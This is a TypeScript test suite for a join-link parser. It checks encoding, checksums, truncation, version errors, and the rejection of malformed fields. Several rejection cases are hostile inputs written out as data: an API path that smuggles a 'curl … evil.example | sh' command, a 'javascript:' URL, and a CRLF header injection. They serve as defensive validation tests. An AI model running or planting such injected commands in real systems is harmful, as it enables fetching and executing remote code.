import { sha256 } from "@noble/hashes/sha2.js";
import { concatBytes } from "@noble/hashes/utils.js";
import { assert, assertEquals, assertThrows } from "@std/assert";
import { encodeApiKey } from "../api/api_key.ts";
import { decodeBase64url, encodeBase64url } from "../base/base64url.ts";
import { type CborMap, type CborValue, decodeCbor, encodeCbor } from "../base/cbor.ts";
import { WireError } from "../base/errors.ts";
import { parseAgentId, parseChannelId, parseChannelName } from "../base/ids.ts";
import { formatJoinLink, type JoinLink, looksLikeJoinLink, parseJoinLink } from "./join_link.ts";

const pass = encodeApiKey({ environment: "live", lookup: "A".repeat(8), secret: "b".repeat(32) });
const small: JoinLink = {
  invite: {
    channelId: parseChannelId("AAECAwQFBgcICQoLDA0ODw"),
    name: parseChannelName("acme/ops/deploy"),
    inviter: parseAgentId("abcdefghijklmnopqrstuv"),
    secret: new Uint8Array(32).fill(0xa5),
  },
  apiUrl: "https://api.example",
  relayUrls: [],
};
const whole: JoinLink = {
  ...small,
  apiUrl: "http://127.0.0.1:8080",
  relayUrls: ["quic://relay.example:4433", "https://[::1]:5000"],
  authority: { kind: "hash", sha256: new Uint8Array(32).fill(7) },
  pass,
  expiresAtMs: 1_800_000_000_000,
};
const der = Uint8Array.of(0x30, 0x82, 0x07, 0xfc, ...new Uint8Array(2044).fill(1));
const certificate: JoinLink = { ...small, authority: { kind: "certificate", der } };
const shortCertificate: JoinLink = {
  ...small,
  authority: {
    kind: "certificate",
    der: Uint8Array.of(0x30, 0x81, 0xc8, ...new Uint8Array(200).fill(1)),
  },
};

/** Frozen: links like these are in people's mail. */
const golden = {
  small:
    "static://join/#AQB2pgFQAAECAwQFBgcICQoLDA0ODwJvYWNtZS9vcHMvZGVwbG95A3ZhYmNkZWZnaGlqa2xtbm9wcXJzdHV2BFggpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaUFc2h0dHBzOi8vYXBpLmV4YW1wbGUGgEi_4B4",
  whole:
    "static://join/#AQEIqQFQAAECAwQFBgcICQoLDA0ODwJvYWNtZS9vcHMvZGVwbG95A3ZhYmNkZWZnaGlqa2xtbm9wcXJzdHV2BFggpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaUFdWh0dHA6Ly8xMjcuMC4wLjE6ODA4MAaCeBlxdWljOi8vcmVsYXkuZXhhbXBsZTo0NDMzcmh0dHBzOi8vWzo6MV06NTAwMAdYIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHCXg2c2tfbGl2ZV9BQUFBQUFBQWJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiMHMyUk9rChprSdIAkAasdg",
};

function refusal(text: string): WireError {
  return assertThrows(() => parseJoinLink(text), WireError);
}

/** A link with other content and a checksum that fits. */
function sealed(content: Uint8Array, version = 1): string {
  const bytes = concatBytes(
    Uint8Array.of(version, content.length >> 8, content.length & 0xff),
    content,
  );
  return `static://join/#${encodeBase64url(concatBytes(bytes, sha256(bytes).subarray(0, 4)))}`;
}

function contentOf(link: JoinLink): CborMap {
  const bytes = decodeBase64url(formatJoinLink(link).slice("static://join/#".length)) ??
    new Uint8Array(0);
  const value = decodeCbor(bytes.subarray(3, -4));
  assert(value instanceof Map);
  return value;
}

Deno.test("formatJoinLink() writes the frozen text, and parseJoinLink() reads it", () => {
  assertEquals(formatJoinLink(small), golden.small);
  assertEquals(formatJoinLink(whole), golden.whole);
  assertEquals(parseJoinLink(golden.small), small);
  assertEquals(parseJoinLink(golden.whole), whole);
  assertEquals(parseJoinLink(sealed(encodeCbor(contentOf(whole)))), whole);
});

Deno.test("a link survives formatting and parsing, as static:// and as an address of the API", () => {
  for (const link of [small, whole, certificate, shortCertificate]) {
    for (const web of [false, true]) {
      const text = formatJoinLink(link, { web });
      assertEquals(parseJoinLink(text), link);
      assert(looksLikeJoinLink(text));
    }
  }
  assert(formatJoinLink(whole, { web: true }).startsWith("http://127.0.0.1:8080/console/join#"));
  assert(!looksLikeJoinLink("inv_AAAA") && !looksLikeJoinLink("acme/ops/deploy"));
});

Deno.test("everything of a link is behind its #", () => {
  for (const web of [false, true]) {
    const [before] = formatJoinLink(whole, { web }).split("#");
    assertEquals(before, web ? "http://127.0.0.1:8080/console/join" : "static://join/");
  }
});

Deno.test("parseJoinLink() tells a link that was cut short from one that was changed, wherever that is", () => {
  const text = formatJoinLink(whole);
  for (let length = "static://join/".length; length < text.length; length++) {
    const error = refusal(text.slice(0, length));
    assertEquals(error.code, "link_invalid");
    assert(error.message.includes("cut short"), `${length}: ${error.message}`);
  }
  for (let at = "static://join/#".length; at < text.length; at++) {
    const changed = text.slice(0, at) + (text[at] === "A" ? "B" : "A") + text.slice(at + 1);
    const { code } = refusal(changed);
    assertEquals(code, "link_invalid");
  }
});

Deno.test("parseJoinLink() refuses what surrounds a link, other characters, and other addresses", () => {
  const text = formatJoinLink(small);
  for (
    const each of [
      ` ${text}`,
      `${text} `,
      `${text}A`,
      `${text}=`,
      `${text}\n`,
      text.replace("_", "/"),
      `<${text}>`,
    ]
  ) {
    assertEquals(refusal(each).code, "link_invalid");
  }
  for (
    const other of [
      "static://join",
      "static://other/",
      "http://static/join/",
      "javascript:",
      "",
      "inv_",
    ]
  ) {
    assertEquals(refusal(text.replace("static://join/", other)).code, "link_invalid");
  }
  const elsewhere = text.replace("static://join/", "https://evil.example/console/join");
  assert(refusal(elsewhere).message.includes("another service"));
});

Deno.test("parseJoinLink() refuses long input before it decodes anything, and a length that no link has", () => {
  assertEquals(refusal(`static://join/#${"A".repeat(50_000_000)}`).code, "link_invalid");
  assertEquals(refusal("static://join/#Af__").code, "link_invalid");
  assertThrows(
    () => formatJoinLink({ ...certificate, relayUrls: Array(9).fill("quic://relay.example") }),
    WireError,
  );
  const long = "quic://" + "r".repeat(240);
  assertThrows(
    () => formatJoinLink({ ...certificate, pass, relayUrls: Array(8).fill(long) }),
    WireError,
    "room",
  );
});

Deno.test("a link of another version says what to update, if its checksum is right", () => {
  const newer = sealed(encodeCbor(new Map([[99, 1]])), 2);
  const error = refusal(newer);
  assertEquals(error.code, "unsupported_version");
  assert(error.message.includes("update"));
  assertEquals(refusal(newer.slice(0, -1)).code, "link_invalid");
});

const oddities: readonly (readonly [string, (fields: CborMap) => void])[] = [
  ["a part that is not known", (fields) => fields.set(11, 1)],
  ["no secret", (fields) => fields.delete(4)],
  ["a short secret", (fields) => fields.set(4, new Uint8Array(31))],
  ["a name that is none", (fields) => fields.set(2, "Acme")],
  ["an agent id that is none", (fields) => fields.set(3, "abc")],
  ["a channel id that is none", (fields) => fields.set(1, new Uint8Array(15))],
  ["no API", (fields) => fields.delete(5)],
  ["an API in clear elsewhere", (fields) => fields.set(5, "http://api.example")],
  ["an API with a credential", (fields) => fields.set(5, "https://a:b@api.example")],
  ["an API written otherwise", (fields) => fields.set(5, "https://api.example/")],
  ["an API that is a script", (fields) => fields.set(5, "javascript:alert(1)")],
  [
    "an API whose path is a command",
    (fields) => fields.set(5, "https://api.example/;curl$IFS'evil.example'|sh"),
  ],
  ["an API whose path has an &", (fields) => fields.set(5, "https://api.example/a&b")],
  ["a long API", (fields) => fields.set(5, `https://${"a".repeat(300)}`)],
  ["a relay that is none", (fields) => fields.set(6, ["https://relay.example/path"])],
  ["several relays in one", (fields) => fields.set(6, ["quic://a,quic://b"])],
  ["relays that are no list", (fields) => fields.set(6, "quic://a")],
  [
    "a hash and a certificate",
    (fields) => fields.set(7, new Uint8Array(32)).set(8, new Uint8Array(400)),
  ],
  ["a short hash", (fields) => fields.set(7, new Uint8Array(31))],
  ["a certificate that is a hash", (fields) => fields.set(8, new Uint8Array(32))],
  ["a long certificate", (fields) => fields.set(8, new Uint8Array(2049))],
  ["a certificate that is none", (fields) => fields.set(8, new Uint8Array(400).fill(0x30))],
  ["a certificate that was cut short", (fields) => fields.set(8, der.subarray(0, 1000))],
  [
    "something behind the certificate",
    (fields) => fields.set(8, Uint8Array.of(0x30, 0x81, 150, ...new Uint8Array(151))),
  ],
  ["a pass that is mistyped", (fields) => fields.set(9, pass.replace("b", "c"))],
  ["a pass that is a header", (fields) => fields.set(9, `${pass}\r\nx: y`)],
  ["a time before 1970", (fields) => fields.set(10, -1)],
  ["a time that no date has", (fields) => fields.set(10, 1e12)],
  ["a time that is text", (fields) => fields.set(10, "soon")],
];

for (const [what, change] of oddities) {
  Deno.test(`parseJoinLink() refuses a link with ${what}`, () => {
    const fields = contentOf(small);
    change(fields);
    assertEquals(refusal(sealed(encodeCbor(sorted(fields)))).code, "link_invalid");
  });
}

/** By key, as our CBOR has to be. */
function sorted(fields: CborMap): CborMap {
  return new Map<CborValue, CborValue>([...fields].sort(([a], [b]) => Number(a) - Number(b)));
}

Deno.test("parseJoinLink() refuses content that is no map, not CBOR, or has something behind it", () => {
  const content = encodeCbor(contentOf(small));
  for (
    const bad of [
      encodeCbor([1, 2]),
      Uint8Array.of(0xff),
      new Uint8Array(0),
      Uint8Array.of(...content, 0),
    ]
  ) {
    assertEquals(refusal(sealed(bad)).code, "link_invalid");
  }
});

Deno.test("no error shows anything of a link", () => {
  const text = formatJoinLink(whole);
  const payload = text.slice("static://join/#".length);
  const broken = [
    text.slice(0, -3),
    `${text}x y`,
    text.replace("static:", "https:"),
    `${text.slice(0, -2)}AA`,
  ];
  for (const each of broken) {
    const { message, cause } = refusal(each);
    for (let at = 0; at + 8 < payload.length; at += 8) {
      assert(!`${message} ${cause}`.includes(payload.slice(at, at + 8)));
    }
    assert(!message.includes(pass));
  }
});
